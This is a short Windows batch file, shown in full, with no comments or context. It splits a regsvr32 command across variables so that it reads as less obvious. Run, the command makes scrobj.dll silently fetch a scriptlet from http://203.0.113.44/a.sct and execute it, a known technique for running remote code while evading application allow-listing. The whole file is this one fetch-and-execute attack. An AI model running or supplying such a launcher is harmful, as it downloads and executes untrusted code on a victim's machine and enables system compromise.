@echo off
set r=regsvr32
set s=/s /n /u /i:http://203.0.113.44/a.sct
%r% %s% scrobj.dll
